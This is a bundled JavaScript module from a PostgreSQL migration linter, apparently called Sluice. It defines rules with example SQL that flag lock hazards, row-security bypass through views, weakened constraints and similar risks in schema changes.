			lock: "ROW SHARE"
		}]
	}],
	"select-for-share": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ROW SHARE",
			scans: true
		}, {
			role: "index",
			lock: "ROW SHARE"
		}]
	}]
};
const unverifiedMajor = defineRule({
	id: "unverified-major",
	axis: "unknown",
	title: "The locks of this PostgreSQL were not measured",
	why: `What a statement locks, rewrites and reads differs between major versions; for a newer one Sluice says what it measured on PostgreSQL 18.`,
	instead: "Rehearse it on a server of this version, or use a Sluice that has measured it.",
	invalid: [{
		sql: "alter table users add column note text",
		postgres: 19,
		level: "medium",
		message: "The locks of PostgreSQL 19 were not measured: everything that is said of them is so on PostgreSQL 18."
	}, {
		sql: "create table drafts (id bigint); alter table users add column note text; drop index users_email",
		postgres: 20,
		level: "medium",
		message: "The locks of PostgreSQL 20 were not measured: everything that is said of them is so on PostgreSQL 18."
	}],
	valid: ["alter table users add column note text"],
	check: ({ effects, catalog, postgres = majorOf(catalog) }) => {
		const first = effects.find(isOfSchema);
		if (first === void 0 || postgres === void 0 || postgres <= 18) return [];
		const { unitId, statement, source } = first;
		return [{
			effect: {
				unitId,
				statement,
				source
			},
			level: "medium",
			message: `The locks of PostgreSQL ${postgres} were not measured: everything that is said of them is so on PostgreSQL 18.`,
			unknown: true
		}];
	}
});
/** What the change itself creates is nobody else's to wait for; rows move under the same locks everywhere. */
function isOfSchema(effect) {
	if (effect.source !== "static" || !ofSchema.has(effect.kind)) return false;
	const object = "object" in effect ? effect.object : void 0;
	return object === void 0 || !object.createdHere;
}
const ofSchema = /* @__PURE__ */ new Set([
	"creates",
	"alters",
	"drops",
	"truncates",
	"locks",
	"rewrites",
	"scans",
	"builds-index"
]);
const validateInSameTransaction = defineRule({
	id: "validate-in-same-transaction",
	axis: "lock",
	title: "A constraint is validated in the transaction that adds it",
	why: "The lock of adding it is still held while every row is read, so NOT VALID gains nothing.",
	instead: "Validate it in a file of its own, which runs in a transaction of its own.",
	invalid: [{
		sql: "alter table users add constraint adult check (age > 17) not valid; alter table users validate constraint adult",
		level: "medium",
		message: "Validates constraint users.adult while the lock of adding it is held."
	}],
	valid: ["alter table users add constraint adult check (age > 17) not valid", "create table notes (id int); alter table notes add constraint c check (id > 0) not valid; alter table notes validate constraint c"],
	counterfactual: {
		level: "low",
		when: "it is validated in a later file",
		with: ["alter table users add constraint adult check (age > 17) not valid", "alter table users validate constraint adult"]
	},
	rewrite: saferForm,
	check: ({ effects }) => {
		const added = /* @__PURE__ */ new Set();
		return ofKind(effects, "alters").flatMap((effect) => {
			const { change, object, unitId } = effect;
			const constraint = `${objectName(object)} ${unitId}`;
			if (change === "add-constraint") added.add(constraint);
			if (change !== "validate-constraint" || object.createdHere || !added.has(constraint)) return [];
			return [{
				effect,
				level: "medium",
				message: `Validates ${objectName(object)} while the lock of adding it is held.`
			}];
		});
	}
});
const varcharLength = defineRule({
	id: "varchar-length",
	axis: "design",
	default: "off",
	title: "A column has a length in its type",
	why: "A shorter length has to rewrite the table later, and the length of values is rarely a matter of storage.",
	instead: "Use text, with a CHECK on the length where one is needed.",
	invalid: [{
		sql: "create table notes (title varchar(80))",
		level: "low",
		message: "Column notes.title has a length in its type."
	}],
	valid: ["create table notes (title varchar)", "create table notes (title text)"],
	check: ({ scripts }) => declarationsOf(scripts, "column").filter(({ type, hasLength }) => type === "varchar" && hasLength).map((effect) => ({
		effect,
		level: "low",
		message: `Column ${effect.table}.${effect.column} has a length in its type.`
	}))
});
const viewPastRowSecurity = defineRule({
	id: "view-past-row-security",
	axis: "privilege",
	title: "A view shows rows that row security hides",
	why: "A view reads its tables with the rights of its owner: the policies of whoever reads it are not asked.",
	instead: "Create the view with (security_invoker = true), which PostgreSQL knows from version 15 on.",
	invalid: [
		{
			sql: "create table notes (id int); alter table notes enable row level security; create policy own on notes using (id = 1); create view all_notes as select id from notes",
			level: "high",
			message: "View all_notes reads table notes past its row security."
		},
		{
			sql: "alter view report set (security_invoker = false)",
			level: "high",
			message: "View report is read with the rights of its owner from then on."
		},
		{
			sql: "alter view report reset (security_barrier)",
			level: "high",
			message: "View report is no security barrier from then on."
		}
	],
	valid: ["create view adults as select id from users where age > 17", "alter view report set (security_barrier = true)"],
	check: ({ effects, scripts, catalog }) => {
		const findGuarded = meantBy(guardedTables(effects, catalog));
		return [...traitsOf(scripts, "view").flatMap((view) => past(view, findGuarded(view.reads))), ...traitsOf(scripts, "option").flatMap(opened)];
	}
});
function past(effect, guarded) {
	if (effect.invoker) return [];
	return guarded.map(({ table, known }) => ({
		effect,
		level: "high",
		message: `View ${writtenTable(effect.view)} reads table ${writtenTable(table)} past its row security.`,
		...known ? { usesFacts: true } : {}
	}));
}
function guardedTables(effects, { facts }) {
	const once = eachTableOnce(ofKind(effects, "alters").filter(({ change }) => change === "enable-row-security" || change === "force-row-security").map(({ object }) => ({
		table: object,
		known: false
	})));
	const findHere = meantBy(once);
	const before = (facts?.relations ?? []).filter(({ rowSecurity }) => rowSecurity !== "off").filter((relation) => findHere([relation]).length === 0).map((relation) => ({
		table: relation,
		known: true
	}));
	return [...once, ...before];
}
const off = /* @__PURE__ */ new Set([
	void 0,
	"false",
	"off",
	"0",
	"no",
	"f"
]);
function opened(effect) {
	const { of, option, value } = effect;
	if (of.kind !== "view" || !off.has(value)) return [];
	const name = writtenTable(of);
	if (option === "security_invoker") return [{
		effect,
		level: "high",
		message: `View ${name} is read with the rights of its owner from then on.`
	}];
	if (option !== "security_barrier") return [];
	return [{
		effect,
		level: "high",
		message: `View ${name} is no security barrier from then on.`
	}];
}
const volatileCheck = defineRule({
	id: "volatile-check",
	axis: "compatibility",
	title: "A check answers differently each time",
	why: "Rows that passed once may not pass again: a restored dump or a later update fails on data that was right.",
	instead: "Check only the values of the row; put the moment or the random part into a column.",
	invalid: [{
		sql: "alter table users add constraint lucky check (random() >= 0) not valid",
		level: "medium",
		message: "A check of table users calls a volatile function."
	}],
	valid: ["alter table users add constraint adult check (age > 17) not valid"],
	check: ({ scripts }) => traitsOf(scripts, "volatile-check").map((effect) => ({
		effect,
		level: "medium",
		message: `A check of table ${writtenTable(effect.table)} calls a volatile function.`
	}))
});
const changes = {
	"drop-constraint": "Drops",
	"alter-constraint": "Changes",
	"drop-not-null": "Allows NULL in",
	"no-inherit": "Takes the rows away from the parent of",
	"shadows-builtin": "Can stand in for PostgreSQL’s own function:",
	"restart-sequence": "Restarts",
	"set-expression": "Changes the generated values of",
	"set-unlogged": "Gives up crash safety of",
	"detach-partition": "Detaches a partition from",
	"drop-identity": "Drops the identity of",
	"drop-expression": "Drops the expression of",
	"replica-identity": "Changes the replica identity of",
	"refresh-version": "Silences the warning that indexes may be wrong under",
	inherit: "Adds its rows to those of a parent:"
};
const weakenIntegrity = defineRule({
	id: "weaken-integrity",
	axis: "compatibility",
	title: "A guarantee about the data is given up",
	why: "Wrong rows can enter from then on, and what reads them may rely on the guarantee.",
	instead: "Say in the pull request who checked that nothing relies on it.",
	invalid: [
		{
			sql: "alter table orders drop constraint orders_user",
			level: "medium",
			message: "Drops constraint orders.orders_user."
		},
		{
			sql: "alter table users alter column email drop not null",
			level: "medium",
			message: "Allows NULL in column users.email."
		},
		{
			sql: "create function format(text, text) returns text language sql as $$ select 'x' $$",
			level: "medium",
			message: "Can stand in for PostgreSQL’s own function: function format."
		}
	],
	valid: ["alter table users alter column note set default ''"],
	check: ({ effects }) => ofKind(effects, "alters").flatMap((effect) => {
		const words = changes[effect.change];
		if (words === void 0 || effect.object.createdHere) return [];
		return [{
			effect,
			level: "medium",
			message: `${words} ${objectName(effect.object)}.`
		}];
	})
});
const workUnderLock = defineRule({
	id: "work-under-lock",
	axis: "lock",
	title: "A table stays locked while other work goes on",
	why: "A lock is held until the transaction ends: nobody can read the table while the statements after it run.",
	instead: "Put the long work into a file of its own, before the one that locks the table.",
	invalid: [{
		sql: "alter table users add column note text; update orders set user_id = 2 where user_id > 7",
		level: "medium",
		message: "Updates table orders while table users stays locked ACCESS EXCLUSIVE."
	}, {
		sql: "alter table users add column note text; create index orders_user_id on orders (user_id)",
		level: "medium",
		message: "Builds an index on table orders while table users stays locked ACCESS EXCLUSIVE."
	}],
	valid: [
		"alter table users add column note text; alter table orders add column note text",
		"alter table users add column note text; update users set note = name where id = 1",
		"create table notes (id int); alter table notes add column note text; insert into notes (id) values (1)",
		"create table if not exists notes (id int); alter table notes add column note text; insert into notes (id) values (1)"
	],
	check: ({ effects }) => {
		const units = /* @__PURE__ */ new Map();
		const told = /* @__PURE__ */ new Set();
		const perhapsNew = onPerhapsNew(effects);
		return effects.filter((effect) => !perhapsNew.has(effect)).flatMap((effect) => {
			const { unitId } = effect;
			const held = units.get(unitId);
			if (held === void 0 && isLock(effect)) units.set(unitId, effect);
			if (held === void 0 || held.statement === effect.statement || told.has(unitId)) return [];
			const work = isOwnLock(effect, held) ? void 0 : workOf(effect);
			if (work === void 0) return [];
			told.add(unitId);
			return [{
				effect,
				level: "medium",
				message: `${work} while ${objectName(held.object)} stays locked ${held.mode}.`
			}];
		});
	}
});
function isLock(effect) {
	return effect.kind === "locks" && effect.source === "static" && effect.mode === "ACCESS EXCLUSIVE" && effect.object.kind === "table" && !effect.object.createdHere;
}
/** A rewrite locks its table as strongly itself. */
function isOwnLock(effect, held) {
	return effect.kind === "rewrites" && objectName(effect.object) === objectName(held.object);
}
/** Work that takes longer the more rows there are. */
function workOf(effect) {
	const name = existingObject(effect);
	if (name === void 0) return void 0;
	switch (effect.kind) {
		case "rewrites": return `Rewrites ${name}`;
		case "scans": return `Reads all of ${name}`;
		case "builds-index": return `Builds an index on ${name}`;
		case "writes": return effect.reach === "keyed" || effect.reach === "listed" ? void 0 : `${verbs[effect.verb]} ${name}`;
		default: return;
	}
}
function existingObject(effect) {
	if (effect.source === "observed" || !("object" in effect) || effect.object === void 0) return void 0;
	const { kind, createdHere } = effect.object;
	return kind !== "table" || createdHere ? void 0 : objectName(effect.object);
}
const verbs = {
	insert: "Fills",
	update: "Updates",
	delete: "Deletes from"
};
/** Every rule, in the order of its id. A new rule is one file and one line here. */
const rules = [
	alterColumnType,
	auditTampering,
	autovacuumOff,
	blockingLock,
	blockingScan,
	capturedColumn,
	cascadingDelete,
	charType,
	computedPredicate,
	concurrentlyInTransaction,
	contractWithExpand,
	credentialWrite,
	dataExport,
	definerSearchPath,
	deleteRows,
	domainCheck,
	dropColumn,
	dropObject,
	dropTable,
	droppedDefault,
	enumValueInSameTransaction,
	environmentBranch,
	filteredUpdate,
	foreignKeyWithoutIndex,
	functionPromise,
	grantToPublic,
	hiddenStatement,
	indexWithoutConcurrently,
	indirectWrite,
	jsonType,
	keyUpdate,
	longName,
	misleadingName,
	moneyType,
	multiplePermissivePolicies,
	nameStyle,
	newerSyntax,
	observedNotPredicted,
	opaqueDynamicSql,
	parseSetting,
	policyTrustsUser,
	policyWithoutRowSecurity,
	privilegedChange,
	publishedTable,
	publishedWithoutKey,
	renameObject,
	replaceObject,
	requiredColumn,
	rowLocks,
	rowSecurityWithoutPolicy,
	runnerDirective,
	secretInText,
	sensitiveCopy,
	sequenceBurn,
	sequenceOptions,
	serialColumn,
	serverAccess,
	sessionSetting,
	severalLockedTables,
	smallPrimaryKey,
	suppressionComment,
	swallowedError,
	systemCatalogWrite,
	tableWithoutComment,
	tableWithoutPrimaryKey,
	timestampWithoutTimeZone,
	transactionControl,
	truncate,
	truncatedName,
	unboundParameter,
	unboundedDelete,
	unboundedUpdate,
	unknownFunctionCall,
	unknownStatement,
	unloggedTable,
	unparsed,
	unverifiedMajor,
	validateInSameTransaction,
	varcharLength,
	viewPastRowSecurity,
	volatileCheck,
	weakenIntegrity,
	workUnderLock
];
export { settled as $, bindsKey as A, viewsOf as B, knownRelation as C, withinFunction as D, majorOf as E, primaryKeyOf as F, wordsOf$2 as G, trieGet as H, referringTables as I, isVolatile as J, written as K, rulesOn as L, followingRows as M, foreignKeysTo as N, withoutCreated as O, isNotNull as P, operatorOf as Q, sizeOf as R, knownColumns as S, lookupDropped as T, trieWith as U, emptyTrie as V, nameLength as W, mayBeVolatile as X, listed$2 as Y, negated as Z, advance as _, readAlterTable as a, mayMean as at, emptyCatalog as b, dependentViews as c, knownColumn as d, shapeOf as et, parentTables as f, tablesWithType as g, tableOfIndex as h, bodyOf as i, volatileFunctions as it, descendantsOf as j, baseTablesOf as k, descendantTables as l, referencingTables as m, lockTable as n, isAlwaysBuiltin as nt, textOf as o, writtenTable as ot, referencedTables as p, isConstantForRows as q, readsNumbersOtherwise as r, isBuiltin as rt, defaultPartition as s, rules as t, systemColumns as tt, isProvenNotNull as u, catalogOf as v, lookup as w, forget as x, confusesNames as y, triggersOn as z };
